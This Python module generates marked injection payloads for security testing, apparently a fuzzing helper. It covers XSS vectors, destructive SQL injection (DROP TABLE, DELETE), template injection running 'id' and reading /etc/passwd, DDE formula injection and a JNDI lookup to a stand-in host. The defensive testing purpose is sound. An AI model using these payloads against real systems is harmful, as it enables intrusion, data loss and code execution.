"""Payloads of six kinds, the same for the same number: HTML, SQL, template, formula, log, direction marks."""

from __future__ import annotations

import itertools
import random
from dataclasses import dataclass

MARK = "zqx"  # no page holds these letters of its own accord
PRODUCT = 7919 * 7907  # what a template that was run would print
_HTML = (
    "<script>{m}()</script>", "<img src=x onerror={m}()>", "<svg onload={m}()>", "<svg><script>{m}()</script></svg>",
    "<iframe srcdoc='<script>parent.{m}()</script>'></iframe>", "<body onload={m}()>", "<input autofocus onfocus={m}()>",
    "<details open ontoggle={m}()>", "<a href=javascript:{m}()>a</a>", "<form action=javascript:{m}()><button>b</form>",
    "<object data=javascript:{m}()></object>", "<embed src=javascript:{m}()>", "<math><mtext></mtext><script>{m}()</script></math>",
    "<base href=//{m}.example/>", "<meta http-equiv=refresh content='0;url=//{m}.example'>", "<link rel=stylesheet href=//{m}.example>",
    "<style>@import '//{m}.example';</style>", "<{m} onclick={m}()>", "&lt;script&gt;{m}()&lt;/script&gt;", "<scr<script>ipt>{m}()</script>",
    "<template><script>{m}()</script></template>", "<x-{m} autofocus tabindex=1 onfocus={m}()>", "<!--><script>{m}()</script>-->",
    "<noscript><p title='</noscript><script>{m}()</script>'>", "\u2028<script>{m}()</script>", "<SCRIPT SRC=//{m}.example></SCRIPT>",
)  # fmt: skip
_SQL = (
    "' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"", "1; UPDATE users SET standing='disabled'; --", "') OR 1=1 --",
    "' UNION SELECT password_hash FROM users --", "'||(SELECT account FROM users LIMIT 1)||'", "%' ESCAPE '", "\\'; DELETE FROM events; --",
    "'; ATTACH DATABASE '/tmp/{m}.db' AS x; --", "1) ; SELECT pg_sleep(9); --", "' AND randomblob(900000000) --",
)  # fmt: skip
_TEMPLATE = (
    "{{{{7919*7907}}}}", "{{% print(7919*7907) %}}", "${{7919*7907}}", "#{{7919*7907}}", "<%= 7919*7907 %>", "{{{{config}}}}{m}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}{m}", "{{{{cycler.__init__.__globals__.os.popen('id').read()}}}}{m}",
    "{{% include '/etc/passwd' %}}", "*{{7919*7907}}", "{{0.__class__}}{m}", "%(password_hash)s", "{{{{visit.state.secret}}}}", "{{{{shell.csrf}}}}",
)  # fmt: skip
_FORMULA = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"//{m}.example\")", "+1+cmd|' /C {m}'!A0", "-1+1|{m}", "@SUM(1+1)*{m}", "\t=1+{m}", "\r=1+{m}",
    "=1+1;{m}", "=IMPORTXML(CONCAT(\"//{m}.example\"),\"//a\")", "\uff1d1+1{m}", " =1+{m}", "\n=1+{m}", "%0A-3+3+{m}", "\"=1+{m}", "=DDE(\"{m}\")",
)  # fmt: skip
_LOG = (
    "{m}\n2026-11-16 ERROR forged line", "{m}\r\nSet-Cookie: {m}=1", "{m}\x1b[2J\x1b[31mred", "{m}\u2028forged", "{m}\x00cut", "${{jndi:ldap://{m}.example/a}}",
    "{m}\x08\x08\x08overwritten", "{m}\n{{\"seq\":1,\"actor\":\"{m}\"}}", "%s%n%x{m}", "{m}\x85forged", "{m}\x0bforged",
)  # fmt: skip
_BIDI = (
    "\u202e{m}txt.exe", "{m}\u2066hidden\u2069", "\u200f{m}\u200e", "a\u202a{m}\u202c", "\u2067{m}", "{m}\u061cb", "\u202d{m}\u202c",
    "{m}\u200b\u200c\u200d", "\ufeff{m}", "\u2068{m}\u2069\u202e",
)  # fmt: skip
KINDS = {"html": _HTML, "sql": _SQL, "template": _TEMPLATE, "formula": _FORMULA, "log": _LOG, "bidi": _BIDI}
_BEFORE = ("", "x ", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "`", "\\", "\" autofocus onfocus=\"", "]]>")


@dataclass(frozen=True)
class Payload:
    """One thing to send: its kind, its text, and the mark in it that no other has."""

    kind: str
    text: str
    mark: str


def payloads(count: int, seed: int = 47) -> list[Payload]:
    """`count` payloads, every kind as often as every other, each form of a kind before any comes again."""
    chance = random.Random(seed)
    found = []
    turns = {kind: itertools.cycle(forms) for kind, forms in KINDS.items()}
    for number, kind in zip(range(count), itertools.cycle(KINDS), strict=False):
        mark = f"{MARK}{number:05d}"
        first = kind in ("formula", "bidi") or number < len(KINDS) * 20
        before = "" if first else chance.choice(_BEFORE)
        found.append(Payload(kind, before + next(turns[kind]).format(m=mark), mark))
    return found
